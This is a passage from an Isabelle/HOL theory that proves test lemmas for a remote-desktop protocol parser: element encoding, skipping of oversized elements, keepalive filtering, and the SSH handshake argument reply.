  have "fresh_clip_feeds [clip_open 0 @ blob 0 40 @ ''3.end,1.0;''] = [[]]" by code_simp
  with long_pastes(4) show ?thesis by (simp only: test_small_blob_no_ack_def)
qed

lemma pastes_evaluated: test_interleaved_input test_closed_stream
  by code_simp+

lemma sync_feeds_Cons: "sync_feeds f (x # xs) = fst (sync_Feed f x) # sync_feeds (snd (sync_Feed f x)) xs"
  by (simp split: prod.splits)

lemma blob_text: "wire_instr (blob_i 0 n c) = ''4.blob,1.0,'' @ show_nat n @ ''.'' @ replicate n c @ '';''"
proof -
  have "show_nat 0 = ''0''" "show_nat (length (show_nat 0)) = ''1''" by code_simp+
  then show ?thesis by (simp add: blob_i_def wire_instr_def wire_open_def wire_elem_def)
qed

lemma sync_text: "wire_instr (sync_instr ''999'') = ''4.sync,3.999;''"
  by code_simp

lemma large_element_skipped: test_large_element_skipped
proof -
  let ?is = "[blob_i 0 20000 (CHR ''x''), sync_instr ''999'']" and ?js = "[sync_instr ''7'']"
  let ?p = "snd (sync_Feed (new_parser new_sync_fields) (wire ?is))"
  have "list_all is_ascii (replicate k (CHR ''x''))" for k by (simp add: list_all_iff is_ascii_def)
  then have "elem_ok sync_hooks (show_nat 20000, replicate 20000 (CHR ''x''))"
    by (simp add: elem_ok_def limit_def take_replicate)
  moreover have "elem_ok sync_hooks (''4'', ''blob'')" "elem_ok sync_hooks (show_nat (length (show_nat 0)), show_nat 0)"
    "list_all (instr_ok sync_hooks) ?js" "instr_ok sync_hooks (sync_instr ''999'')" by code_simp+
  ultimately have ok: "list_all (instr_ok sync_hooks) ?is" "list_all (instr_ok sync_hooks) ?js"
    by (simp_all add: blob_i_def instr_ok_def)
  note one = sync_Feed_instrs[OF at_pos_new ok(1), of new_sync_fields]
  then have "at_pos ?p [] (PLen [])" by (elim conjE)
  note two = sync_Feed_instrs[OF this ok(2)]
  have "elems (blob_i 0 20000 (CHR ''x'')) = [''blob'', clamp (show_nat 0), replicate MAX_ELEMENT_SIZE (CHR ''x'')]"
    by (simp add: elems_def blob_i_def MAX_ELEMENT_SIZE_def take_replicate)
  moreover have "wire (sync_replies [sync_instr ''999'']) = ''4.sync,3.999;''" "wire (sync_replies ?js) = ''4.sync,1.7;''"
    by code_simp+
  ultimately have r: "wire (sync_replies ?is) = ''4.sync,3.999;''" "wire (sync_replies ?js) = ''4.sync,1.7;''"
    by (simp_all add: sync_replies_def)
  have "fresh_sync_feeds [wire ?is, wire ?js] = [''4.sync,3.999;'', ''4.sync,1.7;'']"
    using one two r by (simp add: fresh_sync_feeds_def sync_feeds_Cons del: sync_feeds.simps(2) at_pos.simps)
  moreover have "wire ?is = ''4.blob,1.0,'' @ show_nat 20000 @ ''.'' @ replicate 20000 (CHR ''x'') @ '';4.sync,3.999;''"
    by (simp add: blob_text sync_text)
  moreover have "wire ?js = ''4.sync,1.7;''" by code_simp
  ultimately show ?thesis by (simp add: test_large_element_skipped_def Let_def)
qed

lemma keepalive_tests: test_keepalive_only test_keepalive_among_input test_passthrough test_fail_open_and_resync
  by code_simp+

interpretation base: observer "base_hooks :: unit hooks"
  by unfold_locales (simp_all add: base_hooks_def)

lemma well_formed_instrs:
  assumes "list_all (instr_ok (base_hooks :: unit hooks)) is"
  shows "well_formed (wire is)"
proof -
  from base.Parse_observes[OF at_pos_new assms] obtain p' where
    "Parse base_hooks (new_parser ()) (wire is) = (READING_LENGTH, p')" "at_pos p' [] (PLen [])" by blast
  then show ?thesis by (simp add: well_formed_def)
qed

lemma ssh_args_well_formed: "well_formed SSH_ARGS_1_6_0"
proof -
  have "list_all plain ([''args'', ''VERSION_1_5_0''] @ ssh_params)" by code_simp
  then have "instr_ok (base_hooks :: unit hooks) (spelled ([''args'', ''VERSION_1_5_0''] @ ssh_params))" by (rule spelled_ok[rotated]) simp
  then show ?thesis
    using well_formed_instrs[of "[spelled ([''args'', ''VERSION_1_5_0''] @ ssh_params)]"] canned_spelled(1) by simp
qed

lemma select_fed:
  "case forger_Feed rng (new_parser new_forger_fields) ''6.select,3.ssh;'' of
     (o1, f) \<Rightarrow> o1 = SSH_ARGS_1_6_0 \<and> hs_state (sub f) = EXCHANGING_PARAMETERS \<and> protocol (sub f) = ''ssh''"
  by code_simp

lemma forger_tests: "test_select_triggers_args rng" "test_partial_select_across_feeds rng"
  "test_connect_triggers_ready_and_screen (\<lambda>_. 7)"
proof -
  have "contains SSH_ARGS_1_6_0 ''4.args,''" by code_simp
  then show "test_select_triggers_args rng"
    using select_fed[of rng] ssh_args_well_formed
    by (auto simp: test_select_triggers_args_def simp del: contains.simps split: prod.splits)
qed code_simp+

lemma filter_chunks_Cons:
  assumes "at_pos f [] (PLen [])" and "list_all (instr_ok keepalive_hooks) is"
  obtains f' where "at_pos f' [] (PLen [])"
    "\<And>ss. filter_chunks f (wire is # ss) = wire (filter (\<lambda>i. \<not> is_keepalive i) is) # filter_chunks f' ss"
proof -
  obtain data len f' where "keepalive_Filter f (wire is) (length (wire is)) = (data, len, f')" by (metis prod_cases3)
  with keepalive_instrs[OF assms this] show ?thesis by (intro that[of f']) (simp_all del: at_pos.simps)
qed

lemma large_element_passthrough: test_large_element_passthrough
proof -
  let ?is = "[blob_i 0 20000 (CHR ''a'')]" and ?js = "[[(''4'', ''sync''), (''1'', ''9'')]]"
  have "list_all is_ascii (replicate k (CHR ''a''))" for k by (simp add: list_all_iff is_ascii_def)
  then have "elem_ok keepalive_hooks (show_nat 20000, replicate 20000 (CHR ''a''))"
    by (simp add: elem_ok_def limit_def take_replicate)
  moreover have "elem_ok keepalive_hooks (''4'', ''blob'')"
    "elem_ok keepalive_hooks (show_nat (length (show_nat 0)), show_nat 0)" "list_all (instr_ok keepalive_hooks) ?js" by code_simp+
  ultimately have ok: "list_all (instr_ok keepalive_hooks) ?is" "list_all (instr_ok keepalive_hooks) ?js"
    by (simp_all add: blob_i_def instr_ok_def)
  obtain f1 where f1: "at_pos f1 [] (PLen [])"
    "\<And>ss. filter_chunks (new_parser ()) (wire ?is # ss) = wire (filter (\<lambda>i. \<not> is_keepalive i) ?is) # filter_chunks f1 ss"
    using filter_chunks_Cons[OF at_pos_new ok(1)] by blast
  obtain f2 where f2: "\<And>ss. filter_chunks f1 (wire ?js # ss) = wire (filter (\<lambda>i. \<not> is_keepalive i) ?js) # filter_chunks f2 ss"
    using filter_chunks_Cons[OF f1(1) ok(2)] by blast
  have k: "\<not> is_keepalive (blob_i 0 20000 (CHR ''a''))" "is_keepalive [(''4'', ''sync''), (''1'', ''9'')]"
    by (simp_all add: is_keepalive_def elems_def blob_i_def MAX_ELEMENT_SIZE_def)
  have "wire ?js = ''4.sync,1.9;''" by code_simp
  with f1(2) f2 k show ?thesis
    by (simp add: test_large_element_passthrough_def fresh_filter_def blob_text Let_def del: filter_chunks.simps(2))
qed

end
